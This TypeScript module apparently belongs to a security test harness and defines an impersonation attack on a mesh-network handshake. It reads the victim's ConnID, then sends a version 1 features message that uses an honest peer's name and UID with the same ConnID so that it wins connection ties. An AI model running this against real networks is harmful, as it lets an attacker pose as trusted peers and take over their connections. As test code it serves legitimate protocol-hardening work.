import { defineAttack } from "../attack.ts";
import { featuresGob, header } from "../bytes/features.ts";

export default defineAttack<{ honestVersion: 1 | 2; attempts: number }>({
  title: "a version 1 opening that copies the victim's ConnID under an honest peer's name wins every tie",
  group: "no-password",
  limits: ["held connections"],
  gate: ["once"],
  variants: { once: { honestVersion: 2, attempts: 1 }, "20 times": { honestVersion: 2, attempts: 20 } },
  async run(field, { attempts }) {
    await field.begin();
    let copied = 0;
    for (let attempt = 0; attempt < attempts; attempt++) {
      const connection = await field.connect(attempt % 10);
      await connection.send(header(1, 1));
      const connId = () => /ConnID.(\d+)/s.exec(connection.received.toString("latin1"))?.[1];
      await connection.until(() => connId() !== undefined, 1_000);
      if (connId() !== undefined) copied++;
      const honest = field.spec.honest[attempt % 2]!;
      await connection.send(
        featuresGob([
          ["PeerNameFlavour", "mac"],
          ["Name", honest.name],
          ["NickName", "impostor"],
          ["UID", honest.uid],
          ["ConnID", connId() ?? "0"], // the exclusive or of both is 0, the lowest that there is
          ["PublicKey", "11".repeat(32)],
        ]),
      );
      await field.sleep(100);
    }
    field.notes.copied = copied;
  },
  check: ({ notes }) => (Number(notes.copied) > 0 ? undefined : "the victim's ConnID was not read"),
});
